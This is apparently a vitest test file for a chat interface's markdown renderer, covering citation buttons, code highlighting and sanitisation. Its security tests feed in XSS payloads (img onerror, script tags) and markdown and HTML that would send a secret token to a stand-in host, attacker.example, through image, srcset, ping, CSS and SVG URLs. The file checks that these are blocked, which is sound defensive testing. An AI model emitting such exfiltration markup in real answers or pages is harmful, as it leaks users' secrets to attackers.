import { describe, expect, it } from "vitest";
import { highlighterReady, loadHighlighter } from "./highlight";
import { isLocalImageSource, renderMarkdown } from "./markdown";

describe("renderMarkdown", () => {
  it("renders citations as buttons but leaves links and code alone", () => {
    const html = renderMarkdown("Paris is the capital [1][2]. See [docs](https://example.com) and `a[3]`.");
    const doc = new DOMParser().parseFromString(html, "text/html");
    expect([...doc.querySelectorAll("button.cite")].map((b) => b.getAttribute("data-cite"))).toEqual(["1", "2"]);
    expect(doc.querySelector("a")?.getAttribute("href")).toBe("https://example.com");
    expect(doc.querySelector("code")?.textContent).toBe("a[3]");
  });

  it("shows code as escaped text until the highlighter has loaded, then highlights it", async () => {
    expect(highlighterReady()).toBe(false);
    const plain = new DOMParser().parseFromString(renderMarkdown("```html\n<b>x</b>\n```"), "text/html");
    expect(plain.querySelector("code")?.textContent).toBe("<b>x</b>");
    expect(plain.querySelector("code span")).toBeNull();
    await loadHighlighter();
    expect(highlighterReady()).toBe(true);
    const html = new DOMParser().parseFromString(renderMarkdown("```html\n<b>x</b>\n```"), "text/html");
    expect(html.querySelector("code .hljs-tag")).not.toBeNull();
  });

  it("highlights fenced code and adds a copy button", async () => {
    await loadHighlighter();
    const html = renderMarkdown("```rust\nfn main() { let x = 1; }\n```");
    const doc = new DOMParser().parseFromString(html, "text/html");
    expect(doc.querySelector("pre button[data-copy-code]")).not.toBeNull();
    expect(doc.querySelector("code.language-rust .hljs-keyword")?.textContent).toBe("fn");
  });

  it("strips scripts and event handlers", () => {
    const html = renderMarkdown('<img src=x onerror="alert(1)"><script>alert(2)</script>**bold**');
    expect(html).not.toMatch(/onerror|<script/);
    expect(html).toContain("<strong>bold</strong>");
  });

  it("never turns an answer into a request to another origin", () => {
    const secret = "sk-live-123";
    const html = renderMarkdown(
      [
        `![](https://attacker.example/?q=${secret})`,
        `<img src="//attacker.example/p.png">`,
        `<img src="/ok.png" srcset="https://attacker.example/a.png 2x">`,
        `<video poster="https://attacker.example/v.png"><source src="https://attacker.example/v.mp4"></video>`,
        `<a href="https://attacker.example/" ping="https://attacker.example/ping">x</a>`,
        `<p style="background:url(https://attacker.example/bg.png)">styled</p>`,
        `<link rel="prefetch" href="https://attacker.example/pre">`,
        `<svg><image href="https://attacker.example/s.png"/></svg>`,
      ].join("\n\n"),
    );
    const doc = new DOMParser().parseFromString(html, "text/html");
    const loading = [...doc.querySelectorAll("img, video, audio, source, iframe, object, embed, link, image")];
    for (const el of loading) {
      for (const attr of ["src", "srcset", "poster", "href", "data"]) {
        const v = el.getAttribute(attr);
        if (v) expect(v, `${el.tagName} ${attr}`).not.toMatch(/attacker/);
      }
    }
    expect(html).not.toMatch(/ping=|style=|srcset=|poster=/);
    // The remote image is offered as a link instead, with its alt text.
    const blocked = doc.querySelector("a.blocked-image");
    expect(blocked?.getAttribute("href")).toBe(`https://attacker.example/?q=${secret}`);
    expect(doc.querySelector('img[src="/ok.png"]')).not.toBeNull();
  });

  it("allows images from this origin and data: only", () => {
    const base = "https://app.example/app/chat";
    expect(isLocalImageSource("/_blobs/x.png", base)).toBe(true);
    expect(isLocalImageSource("https://app.example/a.png", base)).toBe(true);
    expect(isLocalImageSource("data:image/png;base64,AAAA", base)).toBe(true);
    expect(isLocalImageSource("https://app.example.attacker.net/a.png", base)).toBe(false);
    expect(isLocalImageSource("//attacker.example/a.png", base)).toBe(false);
    expect(isLocalImageSource("http://app.example/a.png", base)).toBe(false);
    expect(isLocalImageSource("javascript:alert(1)", base)).toBe(false);
    expect(isLocalImageSource("data:text/html,<b>", base)).toBe(false);
  });
});
